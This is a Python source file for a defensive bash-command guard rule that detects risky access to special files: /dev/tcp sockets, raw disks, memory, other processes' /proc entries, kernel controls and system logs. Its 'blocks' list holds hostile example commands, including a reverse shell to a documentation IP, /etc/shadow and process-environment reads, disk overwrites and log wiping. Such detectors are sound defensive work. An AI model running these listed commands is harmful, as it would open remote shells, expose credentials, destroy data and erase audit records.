"""Files that are more than files: connections, memory, raw disks, other programs' secrets, kernel controls, the system's records."""

from holdfast.guard.effects import writes
from holdfast.guard.line import Arg, Command
from holdfast.guard.rule import Finding, Rule
from holdfast.guard.spelling import short

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from holdfast.guard.line import Line

_READERS = frozenset(
    """cat head tail dd gdd strings xxd od hexdump hd grep egrep zgrep less more most cp tac nl base64 base32 pv tee sort cut awk gawk
sed tr gzip bzip2 xz zstd tar cpio scp rsync nc ncat curl dcfldd dc3dd ddrescue debugfs sha256sum md5sum mv install ln source . bash
sh python python3 perl read mapfile readarray socat vim vi nano view rev wc diff cmp split file binwalk foremost photorec testdisk
extundelete""".split()
)
_SPEAKERS = frozenset("echo printf rg git man which ls stat test [ file find lsof fuser udevadm df lsblk blkid".split())
_DISKS = (
    "/dev/sd",
    "/dev/nvme",
    "/dev/vd",
    "/dev/xvd",
    "/dev/hd",
    "/dev/mapper/",
    "/dev/dm-",
    "/dev/md",
    "/dev/mmcblk",
    "/dev/disk",
    "/dev/rdisk",
    "/dev/loop",
    "/dev/block",
    "/dev/ram",
    "/dev/zvol",
    "/dev/nbd",
    "/dev/ada",
    "/dev/da",
)
_MEMORY = ("/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/proc/kmem", "/dev/fmem", "/dev/crash", "/dev/nvram", "/dev/pmem")
_LISTENING = (
    "/dev/input/",
    "/dev/video",
    "/dev/snd/",
    "/dev/fb0",
    "/dev/hidraw",
    "/dev/uinput",
    "/dev/usbmon",
    "/dev/dsp",
    "/dev/audio",
    "/dev/vcs",
)
_LOCAL = ("localhost", "127.0.0.1", "::1", "0", "0.0.0.0", "host.docker.internal")
_ENDLESS = ("/dev/zero", "/dev/urandom", "/dev/random", "/dev/full")
_KERNEL = (
    "/proc/sys/",
    "/proc/sysrq-trigger",
    "/sys/",
    "/proc/acpi",
    "/proc/scsi",
    "/proc/bus",
    "/proc/irq",
    "/proc/mtrr",
    "/dev/watchdog",
    "/dev/kmsg",
    "/dev/mcelog",
    "/dev/cpu_dma_latency",
)
# Sizes and caches that only make programs faster or slower.
_TUNING = (
    "/proc/sys/vm/drop_caches",
    "/proc/sys/vm/max_map_count",
    "/proc/sys/vm/swappiness",
    "/proc/sys/fs/inotify",
    "/proc/sys/net/core/somaxconn",
    "/sys/kernel/mm/transparent_hugepage",
    "/sys/class/backlight",
    "/sys/class/leds",
    "/sys/class/power_supply",
    "/proc/sys/vm/overcommit_memory",
)
_RECORDS = (
    "/var/log/auth.log",
    "/var/log/secure",
    "/var/log/syslog",
    "/var/log/messages",
    "/var/log/wtmp",
    "/var/log/btmp",
    "/var/log/lastlog",
    "/var/log/faillog",
    "/var/log/audit/",
    "/var/log/kern.log",
    "/var/log/journal/",
    "/var/log/cron",
    "/var/log/maillog",
    "/var/log/daemon.log",
    "/var/log/system.log",
    "/var/log/install.log",
    "/var/log/sudo",
    "/var/run/utmp",
    "/run/utmp",
    "/run/log/journal/",
    "/var/log/tallylog",
    "/private/var/log/",
    "/var/audit/",
    "/var/log/asl/",
    "/var/log/sulog",
    "/var/adm/",
    "/var/account/pacct",
)


def check(line: "Line") -> "Iterator[Finding]":
    for command in line.commands:
        for what, severity in _findings(command, line):
            yield Finding(f"`{short(repr(command))}` {what}" if command.argv else what, severity, start=command.start, end=command.end)
            break


def _findings(command: Command, line: "Line") -> "Iterator[tuple[str, str | None]]":
    for redirect in command.redirects:
        path = redirect.target.when_empty if redirect.op not in ("<<", "<<-", "<<<") else ""
        if path.startswith(("/dev/tcp/", "/dev/udp/")):
            if not _asks_whether_up(redirect.target, command):
                yield f"opens a network connection through {redirect.target.shown}", None
        elif redirect.writes:
            yield from _written(path)
            if path.startswith(_RECORDS) and redirect.op not in (">>", "&>>"):
                yield f"empties {path}, where the system records what happens", None
        elif redirect.reads:
            yield from _read(path)
    program = command.program
    name = command.argv[0].when_empty if command.argv else ""
    if name.startswith(("/proc/self/fd/", "/dev/fd/", "/proc/")) and not name.startswith("/proc/self/exe"):
        yield "runs a program that stands in no folder", None
    for code in command.code:
        path = code.text.when_empty if code.text is not None and code.origin == "file" else ""
        if (
            path.startswith(("/dev/fd/", "/proc/self/fd/", "/proc/"))
            and not (code.text is not None and code.text.unknowns)
            and path != "/dev/fd/0"
        ):
            yield f"runs what stands behind {path}, which has no name", None
        elif path.startswith("/dev/shm/"):
            yield f"runs {path} from memory that leaves no trace", None
    if program in _SPEAKERS:
        return
    if program in ("dd", "gdd", "dcfldd", "dc3dd"):
        paths = [a.when_empty[3:] for a in command.args if a.when_empty.startswith("if=")]
    elif program in _READERS:
        paths = [a.when_empty for a in command.operands()[1 if program.endswith("grep") or program in ("awk", "gawk", "sed") else 0 :]]
    else:
        paths = [a.when_empty for a in command.args if a.when_empty.startswith(("/proc/", "/dev/mem", "/dev/kmem", "/dev/port"))]
    for path in paths:
        yield from _read(path)
    if program in ("tee", "cp", "mv", "install", "truncate", "ln", "touch", "sponge", "sed", "pv"):
        targets = [w.path or w.arg.when_empty for w in writes(command, line.world)] if program != "pv" else []
        for path in targets:
            yield from _written(path)
            if path.startswith(_RECORDS) and not (program == "tee" and command.has_flag("a", "--append")):
                yield f"changes {path}, where the system records what happens", None
        if program == "mv" and command.operands()[-1:] and command.operands()[-1].value in ("/dev/null", "/dev/zero", "/dev/full"):
            yield f"moves files into {command.operands()[-1].shown}, where nothing comes back from", None
    if any(path in _ENDLESS for path in paths) and program in ("cat", "tr", "base64", "pv", "tee", "cp", "xxd", "od", "tail"):
        into = next((r.target for r in command.redirects if r.writes and r.fd in (1, -1)), None)
        if into is not None and not into.when_empty.startswith("/dev/") or program == "cp":
            yield "writes until the disk is full", None
    elif (
        program in ("cat", "tr", "base64", "pv")
        and any(r.reads and r.target.value in _ENDLESS for r in command.redirects)
        and any(r.writes and r.fd in (1, -1) and not r.target.when_empty.startswith("/dev/") for r in command.redirects)
    ):
        yield "writes until the disk is full", None


def _written(path: str) -> "Iterator[tuple[str, str | None]]":
    if path.startswith(_DISKS) and "/loop" not in path:
        yield f"writes straight onto {path}", "catastrophic"
    elif path.startswith(_MEMORY):
        yield f"writes into the machine's memory through {path}", "catastrophic"
    elif path.startswith("/proc/sysrq-trigger"):
        yield "stops or restarts the whole machine", "catastrophic"
    elif path.startswith(_KERNEL) and not path.startswith(_TUNING) and "cpufreq" not in path:
        yield f"changes the kernel through {path}", None
    elif path.startswith("/proc/") and not path.startswith(
        (*_TUNING, "/proc/self/fd/", "/proc/self/oom", "/proc/self/comm", "/proc/1/fd/1", "/proc/1/fd/2")
    ):
        yield f"changes a running program through {path}", None
    elif path.startswith(_LISTENING):
        yield f"acts on the keyboard, screen or sound through {path}", None


def _read(path: str) -> "Iterator[tuple[str, str | None]]":
    if path.startswith(_DISKS) and not path.startswith(("/dev/shm", "/dev/disk/by")):
        yield f"reads {path} past the rights on every file", None
    elif path.startswith(_MEMORY):
        yield f"reads the machine's memory through {path}", None
    elif path.startswith(_LISTENING):
        yield f"listens to the keyboard, screen or sound through {path}", None
    elif path.startswith("/proc/"):
        rest = path[6:].partition("/")[2]
        if (
            rest.startswith(("environ", "mem", "root", "cwd/", "auxv", "pagemap", "syscall", "stack", "fdinfo"))
            and rest != "meminfo"
            or "/task/" in path
            and path.endswith(("environ", "mem"))
        ):
            yield f"reads {path}: another program's environment, memory or files", None
        elif (
            rest.startswith("fd/")
            and not path.startswith(("/proc/self/", "/proc/$"))
            and path[6:7].isdigit()
            and not path.endswith(("/fd/0", "/fd/1", "/fd/2"))
        ):
            yield f"reads {path}, a file that another program has open", None
    elif path == "/dev/watchdog":
        yield "starts a timer that restarts the machine", None


def _asks_whether_up(target: Arg, command: Command) -> bool:
    """True for the way scripts wait for a service of their own: `echo > /dev/tcp/db/5432`, `: < /dev/tcp/localhost/80`."""
    host = target.when_empty.split("/")[3] if target.when_empty.count("/") > 2 else ""
    silent = (
        not command.argv or command.program in (":", "true", "echo", "printf", "exec", "cat") and not any(a.unknowns for a in command.args)
    )
    if command.program == "exec" or not silent:
        return host in _LOCAL and command.program in ("exec", "timeout") and not command.feeds
    if command.program == "cat" and (command.args or command.feeds):
        return False
    return host in _LOCAL or bool(host) and "." not in host and host.replace("-", "").replace("_", "").isalnum() and not host.isdigit()


RULE = Rule(
    code="BSH005",
    title="special files",
    category="bash",
    why="Behind such a path stand the network, memory, disks or other programs, past the tools that would ask for leave.",
    instead="Use the ordinary tool, for example `nc -z localhost 5432`, and leave devices and other processes alone.",
    severity="danger",
    blocks=(
        "cat < /dev/tcp/192.0.2.1/4444",
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "exec 3<>/dev/tcp/example.invalid/80",
        "cat /proc/1/environ",
        "tr '\\0' '\\n' < /proc/812/environ",
        "dd if=/dev/mem of=mem.bin",
        "strings /dev/sda1 | head",
        "echo c > /proc/sysrq-trigger",
        "echo x | tee /proc/sys/kernel/core_pattern",
        "head -c 99 /proc/kcore",
        "cat disk.img > /dev/sda",
        "cat /dev/zero > fill",
        "cp x.img /dev/sdb",
        "bash /dev/fd/3",
        "mv notes.txt /dev/null",
        "cat /dev/input/event0",
        "true && cat /proc/4711/mem",
        "grep -a key /dev/nvme0n1",
        "echo 1 > /sys/kernel/mm/ksm/run",
        "ls $(cat /proc/1/root/etc/shadow)",
        "cat < /dev/urandom > x",
        "sh /dev/shm/x.sh",
        "echo > /var/log/auth.log",
        "truncate -s 0 /var/log/syslog",
        "sed -i '/x/d' /var/log/secure",
        "cp /dev/null /var/log/wtmp",
    ),
    allows=(
        "cat /proc/cpuinfo",
        "grep MemTotal /proc/meminfo",
        "cat /proc/version",
        "cat /proc/1/cgroup",
        "ls > /dev/null 2>&1",
        "cat /dev/stdin",
        "echo x > /dev/tty",
        "ls -l /proc/self/fd",
        "lsblk /dev/sda",
        "echo hi > /dev/stderr",
        "head -c 16 /dev/urandom | xxd",
        "(echo > /dev/tcp/localhost/5432) 2>/dev/null",
        "timeout 1 bash -c '</dev/tcp/db/5432'",
        "cat /proc/sys/kernel/osrelease",
        "cat /sys/class/net/eth0/address",
        "echo 'cat /dev/sda'",
        "cat /proc/self/status",
        "diff <(ls a) <(ls b)",
        "cat /proc/loadavg",
        "read -r x < /dev/tty",
        "ls /dev/sda*",
        "tr -dc a-z < /dev/urandom | head -c 8",
        "cat /proc/$$/cmdline",
        "dd if=/dev/urandom of=key bs=16 count=1",
        "echo log > /proc/1/fd/1",
        "tail -f /var/log/syslog",
        "echo 3 > /proc/sys/vm/drop_caches",
        "truncate -s 0 /var/log/nginx/access.log",
        "grep sshd /var/log/auth.log",
        "echo x >> /var/log/app.log",
    ),
    check=check,
)
